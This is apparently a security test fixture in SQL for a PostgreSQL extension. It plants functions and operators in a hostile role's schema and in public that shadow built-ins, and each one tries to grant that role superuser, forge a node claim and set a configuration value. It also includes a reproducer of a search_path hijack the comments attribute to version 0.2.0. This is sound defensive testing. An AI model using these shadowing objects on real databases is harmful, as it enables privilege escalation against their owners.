-- What a hostile login role can do on its own: run as eve, a plain role with a schema of
-- its own and CREATE on public (as every role had before PostgreSQL 15). Every object here
-- stands in for a built-in one that the extension's SQL might resolve by name. Each
-- stand-in calls eve.pwn(), which records who ran it and tries to gain something: to make
-- eve a superuser, to write a claim into snowflake_nodes, to set snowflake.node_id.
-- Then the stand-in does what the built-in would, so that nothing fails by accident.
-- security.sh then checks, as a superuser, that nothing ran with any rights but eve's.

CREATE TABLE eve.calls (by_role name NOT NULL, via text NOT NULL);
GRANT INSERT ON eve.calls TO PUBLIC;

CREATE FUNCTION eve.pwn(via text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO eve.calls VALUES (pg_catalog.current_user(), via);
  BEGIN
    EXECUTE 'ALTER ROLE eve SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    INSERT INTO public.snowflake_nodes (node_id, system_identifier, server, layout, epoch)
    VALUES (3, 42, 'eve', 'eve', pg_catalog.now());
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    PERFORM pg_catalog.set_config('snowflake.node_id', '3', false);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
EXCEPTION WHEN OTHERS THEN NULL;
END
$$;
GRANT EXECUTE ON FUNCTION eve.pwn(text) TO PUBLIC;

-- The reproducer of the hole in 0.2.0: a format() that turns the claims lookup's answer
-- into the name of eve's function, which the extension then called as its owner.
CREATE FUNCTION eve.claim(int, bigint, text, text, boolean)
  RETURNS TABLE(node_id int, system_identifier bigint, server text, layout text,
                epoch text, claimed_at text, written boolean)
  LANGUAGE plpgsql AS $$BEGIN PERFORM eve.pwn('claim function'); RETURN; END$$;
CREATE FUNCTION eve.format(text, name) RETURNS text LANGUAGE sql AS
  $$SELECT CASE WHEN $1 LIKE '%(%' THEN 'eve.claim(integer, bigint, text, text, boolean)'
              ELSE 'eve.claim' END$$;

-- Functions shadowing pg_catalog's, in eve's schema and in public.
DO $$
DECLARE
  schema text;
  shadow record;
BEGIN
  FOREACH schema IN ARRAY ARRAY['eve', 'public'] LOOP
    FOR shadow IN
      SELECT * FROM (VALUES
        ('format', 'text, text', 'text', 'pg_catalog.format($1, $2)'),
        ('format', 'text, text, text', 'text', 'pg_catalog.format($1, $2, $3)'),
        ('format', 'text, regclass, name', 'text', 'pg_catalog.format($1, $2, $3)'),
        ('quote_ident', 'text', 'text', 'pg_catalog.quote_ident($1)'),
        ('to_regprocedure', 'text', 'regprocedure', 'pg_catalog.to_regprocedure($1)'),
        ('to_regclass', 'text', 'regclass', 'pg_catalog.to_regclass($1)'),
        ('current_setting', 'text', 'text', 'pg_catalog.current_setting($1)'),
        ('now', '', 'timestamptz', 'pg_catalog.now()'),
        ('host', 'inet', 'text', 'pg_catalog.host($1)'),
        ('inet_server_addr', '', 'inet', 'pg_catalog.inet_server_addr()'),
        ('to_char', 'timestamp, text', 'text', 'pg_catalog.to_char($1, $2)'),
        ('pg_get_expr', 'pg_node_tree, oid', 'text', 'pg_catalog.pg_get_expr($1, $2)'),
        ('pg_get_serial_sequence', 'text, text', 'text', 'pg_catalog.pg_get_serial_sequence($1, $2)'),
        ('array_position', 'smallint[], smallint', 'integer', 'pg_catalog.array_position($1, $2)')
      ) AS s(name, args, returns, body)
    LOOP
      EXECUTE pg_catalog.format(
        'CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
        schema, shadow.name, shadow.args, shadow.returns,
        pg_catalog.format('BEGIN PERFORM eve.pwn(%L); RETURN %s; END',
                          schema || '.' || shadow.name, shadow.body));
    END LOOP;
  END LOOP;
END
$$;

-- Operators shadowing pg_catalog's, for every type the extension's SQL compares.
DO $$
DECLARE
  schema text;
  shadow record;
BEGIN
  FOREACH schema IN ARRAY ARRAY['eve', 'public'] LOOP
    FOR shadow IN
      SELECT * FROM (VALUES
        ('=', 'integer', 'eq_int'), ('<>', 'integer', 'ne_int'), ('=', 'bigint', 'eq_bigint'),
        ('>=', 'bigint', 'ge_bigint'), ('<', 'bigint', 'lt_bigint'), ('=', 'oid', 'eq_oid'),
        ('=', 'name', 'eq_name'), ('=', 'text', 'eq_text'), ('<>', 'text', 'ne_text'),
        ('=', '"char"', 'eq_char'), ('=', 'oidvector', 'eq_oidvector'),
        ('=', 'regclass', 'eq_regclass'), ('=', 'timestamptz', 'eq_timestamptz'),
        ('<>', 'timestamptz', 'ne_timestamptz')
      ) AS s(op, type, fn)
    LOOP
      EXECUTE pg_catalog.format(
        'CREATE FUNCTION %I.%I(%s, %s) RETURNS boolean LANGUAGE plpgsql AS %L',
        schema, shadow.fn, shadow.type, shadow.type,
        pg_catalog.format('BEGIN PERFORM eve.pwn(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END',
                          schema || '.' || shadow.op || ' ' || shadow.type, shadow.op));
      EXECUTE pg_catalog.format(
        'CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.%I)',
        schema, shadow.op, shadow.type, shadow.type, schema, shadow.fn);
    END LOOP;
  END LOOP;
END
$$;

-- eve's own copies of what the extension has, in public where its objects live: a
-- claims function of another signature, a view.
CREATE FUNCTION public.snowflake_claim_node(bigint, bigint, text, text, boolean)
  RETURNS TABLE(node_id int, system_identifier bigint, server text, layout text,
                epoch text, claimed_at text, written boolean)
  LANGUAGE plpgsql AS $$BEGIN PERFORM eve.pwn('public.snowflake_claim_node'); RETURN; END$$;

-- A table of eve's to convert: snowflake_convert runs as its caller, on eve's own table.
CREATE TABLE eve.orders (id serial PRIMARY KEY, note text);
INSERT INTO eve.orders (note) VALUES ('first'), ('second');
